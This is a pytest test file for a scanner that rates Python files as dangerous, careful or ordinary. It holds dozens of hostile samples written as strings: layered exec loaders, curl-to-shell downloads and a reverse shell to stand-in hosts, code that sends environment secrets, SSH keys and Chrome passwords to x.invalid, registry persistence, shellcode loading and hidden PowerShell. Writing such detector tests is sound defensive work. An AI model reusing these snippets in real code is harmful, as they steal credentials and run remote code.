"""What a reader is told of Python files. Nothing here is run; addresses end in .invalid."""

import base64
import zlib

import pytest

from core.findings import FileState, Level
from tests.core.scanning.examining import levels, look_at


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


LAYERS = "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{}'))"
"""A disguise that free tools on the internet produce."""


def layered(source: str, layers: int) -> str:
    for _ in range(layers):
        packed = base64.b64encode(zlib.compress(source.encode()))[::-1].decode()
        source = LAYERS.format(packed)
    return source


WRAPPED_XOR = """
def plain(text):
    result = ''
    for letter in text:
        result += chr(ord(letter) - 1)
    return result
import os
getattr(os, plain('tztufn'))(plain('fdip!ij'))
"""
FETCHED_IN_A_CLASS = """
import requests, subprocess
class Updater:
    def load(self):
        self.command = requests.get('https://x.invalid').json()['cmd']
    def go(self):
        subprocess.run(self.command, shell=True)
u = Updater(); u.load(); u.go()
"""
FETCHED_FROM_ABOVE = """
import urllib.request as web
def main():
    exec(compile(get('https://x.invalid'), 'x', 'exec'))
def get(address):
    with web.urlopen(address) as answer:
        return answer.read().decode()
if __name__ == '__main__':
    main()
"""
WRITTEN_THEN_RUN = """
import requests, subprocess
answer = requests.get('https://x.invalid/u')
with open('/tmp/update.sh', 'wb') as file:
    for piece in answer.iter_content(1024):
        file.write(piece)
subprocess.call(['bash', '/tmp/update.sh'])
"""
REMOTE_COMMANDS = """
import socket, subprocess
s = socket.socket(); s.connect(('x.invalid', 1))
while True:
    s.send(subprocess.getoutput(s.recv(1024).decode()).encode())
"""
MACHINE_CODE = """
import ctypes
place = ctypes.windll.kernel32.VirtualAlloc(0, 10, 0x3000, 0x40)
ctypes.windll.kernel32.RtlMoveMemory(place, b'', 0)
ctypes.windll.kernel32.CreateThread(0, 0, place, 0, 0, 0)
"""
COPIES_PASSWORDS = """
import os, shutil, requests
place = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')
shutil.copy(place, 'x.db')
requests.post('https://x.invalid', files={'f': open('x.db', 'rb')})
"""
AT_EVERY_START = """
import sys, winreg
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, 2)
winreg.SetValueEx(key, 'x', 0, winreg.REG_SZ, sys.argv[0])
"""
LOOKS_FOR_WATCHERS = """
import os, psutil, sys
for process in psutil.process_iter():
    if process.name() in ('vmtoolsd.exe', 'wireshark.exe', 'procmon.exe'):
        sys.exit()
os.system('x.bat')
"""
INSTALL_HOOK = """
import os
from setuptools import setup
from setuptools.command.install import install
class Own(install):
    def run(self):
        os.system('x.bat')
setup(name='x', cmdclass={'install': Own})
"""
ENCODED = base64.b64encode("Write-Host hello there".encode("utf-16le")).decode()

HIGH = [
    ("code-decode-and-run", f"import base64\nexec(base64.b64decode('{b64('print(1)')}'))"),
    ("code-decode-and-run", layered("print(1)", 1)),
    ("code-decode-and-run", "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))"),
    ("code-decode-and-run", "k = 7\nexec(''.join(map(lambda c: chr(c ^ k), [119, 117, 110, 105, 115, 47, 54, 46])))"),
    ("code-decode-and-run", "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))"),
    ("code-decode-and-run", "import marshal\nexec(marshal.loads(b'abc'))"),
    ("code-decode-and-run", "def run(t):\n    exec(t)\nimport base64\nrun(base64.b64decode(unknown))"),
    ("code-decode-and-run", WRAPPED_XOR),
    ("code-decode-and-run", f"from base64 import *\nfrom os import *\nsystem(b64decode('{b64('echo hi')}').decode())"),
    ("code-decode-and-run", f"import base64, pickle\npickle.loads(base64.b64decode('{b64('x')}'))"),
    ("code-download-and-run", "import requests\nr = requests.get('https://x.invalid')\nexec(r.text)"),
    ("code-download-and-run", FETCHED_FROM_ABOVE),
    ("code-download-and-run", FETCHED_IN_A_CLASS),
    ("code-download-and-run", WRITTEN_THEN_RUN),
    (
        "code-download-and-run",
        "import urllib.request, os\nurllib.request.urlretrieve('https://x.invalid/u.exe', 'u.exe')\nos.startfile('u.exe')",  # noqa: E501  one line of source
    ),
    ("code-download-and-run", "from os import system as s\ns('curl https://x.invalid/x | sh')"),
    ("code-download-and-run", "import os\ncalls = {'a': os.system}\ncalls['a']('curl https://x.invalid/a.sh|bash')"),
    (
        "code-download-and-run",
        "import threading, os\nthreading.Thread(target=os.system, args=('curl https://x.invalid|bash',)).start()",
    ),
    ("code-download-and-run", "import pickle, requests\npickle.loads(requests.get('https://x.invalid').content)"),
    (
        "code-download-and-run",
        "import subprocess, sys, huggingface_hub\nsubprocess.run([sys.executable, huggingface_hub.hf_hub_download('a/b', 'x')])",  # noqa: E501  one line of source
    ),
    (
        "code-reverse-shell",
        "import socket, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]",  # noqa: E501  one line of source
    ),
    ("code-reverse-shell", REMOTE_COMMANDS),
    ("code-sends-secrets", "import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))"),
    (
        "code-sends-secrets",
        "import os, requests\nkey = open('/home/x/.ssh/id_rsa').read()\nrequests.post('https://x.invalid', data={'k': key})",  # noqa: E501  one line of source
    ),
    ("code-secrets", COPIES_PASSWORDS),
    ("code-native", MACHINE_CODE),
    ("code-autostart", AT_EVERY_START),
    ("code-protection-off", "import os\nos.system('powershell Add-MpPreference -ExclusionPath C:')"),
    (
        "code-hidden-command",
        "import subprocess\nsubprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-Command', unknown])",
    ),
    ("code-hidden-command", f"import os\nos.system('powershell -e {ENCODED}')"),
    ("code-hidden-command", "import ctypes\nctypes.CDLL('msvcrt').system(b'powershell -w hidden x')"),
    ("code-together", "import os, subprocess\nsubprocess.Popen(['x.exe'])\nos.remove(__file__)"),
    ("code-together", "import os\ngetattr(os, 'sys' + 'tem')('x.exe')"),
    ("code-together", "__builtins__.__dict__['ex' + 'ec']('print(1)')"),
    ("code-together", LOOKS_FOR_WATCHERS),
    ("code-together", INSTALL_HOOK),
    ("code-hidden-text", f"import requests\nrequests.get(bytes.fromhex('{b'https://x.invalid/a'.hex()}').decode())"),
    ("code-odd-encoding", "# -*- coding: rot13 -*-\nvzcbeg bf\nbf.flfgrz('rpub uv')"),
    ("code-far-right", "x = 1;" + " " * 300 + "y = 2"),
]


@pytest.mark.parametrize(("rule", "source"), HIGH)
def test_an_attack_is_called_dangerous(rule: str, source: str) -> None:
    found = levels(look_at("loader.py", source))
    assert found.get(rule) is Level.HIGH, found


CAREFUL = [
    ("code-tls-off", "import requests\nrequests.get('https://a.example', verify=False)"),
    ("code-tls-off", "import ssl\nssl._create_default_https_context = ssl._create_unverified_context"),
    ("code-computed", "exec(input())"),
    ("code-computed", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'X'][0]('x')"),
    ("code-starts-programs", "import os\nos.system(command)"),
    ("code-odd-address", "import requests\nrequests.get('https://a.example')\nplace = 'https://pastebin.com/raw/x'"),
    ("code-hidden-window", "import subprocess\nsubprocess.run(['git', 'pull'], creationflags=0x08000000)"),
    ("code-install-hook", "from setuptools import setup\nsetup(name='x', cmdclass={'develop': Own})"),
    ("code-anti-analysis", "import ctypes\nctypes.windll.kernel32.IsDebuggerPresent()"),
    ("code-watches-input", "from pynput import keyboard\nkeyboard.Listener(on_press=f)"),
    ("code-self-delete", "import os\nos.unlink(__file__)"),
    ("code-bidi", "x = 1 # \u202e hello"),
    ("code-protection-off", "blocked = ['Set-MpPreference -DisableRealtimeMonitoring 1']"),
]


@pytest.mark.parametrize(("rule", "source"), CAREFUL)
def test_one_odd_thing_asks_for_care_and_no_more(rule: str, source: str) -> None:
    found = levels(look_at("helper.py", source))
    assert found.get(rule) is Level.CAREFUL, found
    assert max(found.values(), key=list(Level).index) is not Level.HIGH
    assert "code-together" not in found


ORDINARY = [
    "from huggingface_hub import hf_hub_download\nimport torch\ntorch.load(hf_hub_download('a/b', 'model.bin'))",
    "from setuptools import setup\nwith open('pkg/version.py') as f: exec(f.read())\nsetup(name='x')",
    "import subprocess, os\nprint(subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode())\nos.system('nvidia-smi')",  # noqa: E501  one line of source
    "import base64, io\nfrom PIL import Image\nImage.open(io.BytesIO(base64.b64decode(unknown)))",
    "import requests, os\nrequests.post('https://api.example/v1', headers={'Authorization': os.environ['HF_TOKEN']}, json={})",  # noqa: E501  one line of source
    "import torch\ndtype = eval(f'torch.{arguments.dtype}')\nmodel.eval()\nre.compile('x')",
    "from PIL import Image\nimport requests\nImage.open(requests.get('http://images.example/1.jpg', stream=True).raw)",
    "import subprocess\nsubprocess.run('pip install flash-attn --no-build-isolation', shell=True)",
    "import torch.nn as nn\nclass Model(nn.Module):\n    def forward(self, x):\n        return self.layer(x)[::-1]",
    "letters = ''.join(chr(i) for i in range(97, 123))\nimport json\njson.loads(open('config.json').read())",
]


@pytest.mark.parametrize("source", ORDINARY)
def test_ordinary_model_code_comes_out_quiet(source: str) -> None:
    inspection = look_at("modeling_x.py", source)
    assert set(levels(inspection).values()) <= {Level.NOTE}, levels(inspection)
    assert inspection.state is FileState.CHECKED


def test_the_reader_sees_the_hidden_address_decoded() -> None:
    found = look_at(
        "loader.py", f"import base64, requests\nrequests.get(base64.b64decode('{b64('https://x.invalid/b')}'))"
    )
    shown = [fact.value for one in found.findings.values() for fact in one.evidence if fact.label == "decoded"]
    assert "https://x.invalid/b" in shown


def test_layer_upon_layer_is_followed_to_what_is_inside() -> None:
    found = levels(look_at("loader.py", layered("import os\nos.system('powershell -w hidden x')", 12)))
    assert found["code-hidden-command"] is Level.HIGH


@pytest.mark.parametrize(
    "source",
    [
        "print 'an older Python'",
        "def broken(:\n",
        "x = " + "(" * 150 + "1" + ")" * 150,
        "x = " + "+".join(["'a'"] * 5000),
        "x = 9 ** 9 ** 9\ny = 'a' * 10 ** 12\nz = '{:1000000000}'.format(1)\nb = bytes(10 ** 12)\nw = '%1000000000d' % 1",  # noqa: E501  one line of source
        "def f():\n    return f() + f()\nf()",
        "def f(x):\n    return f(f(f(x)))\nf(1)",
        "while True:\n    x = [1]\n    x.append(x)",
        "x = [x for x in x for x in x]",
        "for i in range(10 ** 9):\n    for j in range(10 ** 9):\n        s = s + chr(j)",
        "class A(A):\n    def __init__(self): self.a = A()\nA().a.a.a()",
        "lambda: (yield)\nmatch x:\n    case {'a': [b, *c]}: exec(b)\nasync def f():\n    async with a as b: await b",
        "a = " + ".b()" * 0 + "x" + ".y(1)" * 400,
        "if 1:\n    pass\n" + "elif 2:\n    pass\n" * 500,
    ],
)
def test_no_source_is_too_strange_to_be_read_or_called_unread(source: str) -> None:
    inspection = look_at("strange.py", source)
    assert inspection.state is not FileState.NOT_CHECKED
    assert "code-python" in levels(inspection) or inspection.kind != "python"


def test_a_pickle_maker_is_judged_by_what_its_pickle_would_call() -> None:
    source = "import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ('powershell -w hidden x',))"
    assert levels(look_at("make.py", source))["code-hidden-command"] is Level.HIGH


def test_python_that_cannot_be_parsed_is_searched_and_said_so() -> None:
    inspection = look_at("old.py", "x = = 1\nimport os\nos.system('curl https://x.invalid/a | sh')")
    assert inspection.state is FileState.PARTLY_CHECKED
    assert levels(inspection)["code-download-and-run"] is Level.HIGH


OTHER_VERSIONS = {
    "print": "print 'x', 1\nimport os\nos.system('{0}')",
    "exec in": "import os\nexec 'os.system(\"{0}\")' in globals()",
    "except": "import os\ntry:\n    os.system('{0}')\nexcept OSError, e:\n    print >>f, e",
    "backticks": "import os\nif 1 <> 2: print `3`; os.system('{0}')",
    "type parameters": "def f[T](x: T) -> T: return x\nimport os\nos.system('{0}')",
    "type alias": "type Pair[T] = tuple[T, T]\nimport os\nos.system('{0}')",
    "except without brackets": "import os\ntry: pass\nexcept ValueError, TypeError:\n    os.system('{0}')",
}


@pytest.mark.parametrize("source", OTHER_VERSIONS.values(), ids=OTHER_VERSIONS)
def test_python_of_other_versions_is_followed_all_the_same(source: str) -> None:
    inspection = look_at("old.py", source.replace("{0}", "curl https://x.invalid/a | sh"))
    assert inspection.state is FileState.CHECKED
    assert levels(inspection)["code-download-and-run"] is Level.HIGH
    harmless = levels(look_at("old.py", source.replace("{0}", "nvidia-smi")))
    assert set(harmless.values()) == {Level.NOTE}


@pytest.mark.parametrize(
    "broken", ["(" * 20_000, "a\n b\n  c\n" * 3_000, "def f(:\n" * 3_000, "x = '''\n" + "y\n" * 5_000]
)
def test_what_no_parser_takes_ends_and_is_not_passed_over_in_silence(broken: str) -> None:
    assert look_at("broken.py", broken).state is FileState.PARTLY_CHECKED


@pytest.mark.parametrize("first", ["['x']", "[f()]", "{'k': 1}", "[]", "'x'", "f'{f()} a'"])
@pytest.mark.parametrize(
    "grown",
    [
        "[a, a]",
        "{'l': a, 'r': a}",
        "f'{a}{a}'",
        "a + a",
        "[*a, *a]",
        "'%s%s' % (a, a)",
        "'%(a)s%(a)s' % {'a': a}",
        "'{}{}'.format(a, a)",
        "' '.join([a, a])",
        "str(a).join(list(str(a)))",
        "str(a).translate({120: str(a)})",
    ],
)
def test_a_value_that_doubles_is_followed_no_further_than_its_bound(first: str, grown: str) -> None:
    """Sixty doublings would be an endless text; the file is read to its end all the same."""
    source = f"import os\na = {first}\n" + f"a = {grown}\n" * 60 + "os.system(a)\n"
    assert "code-starts-programs" in levels(look_at("x.py", source))
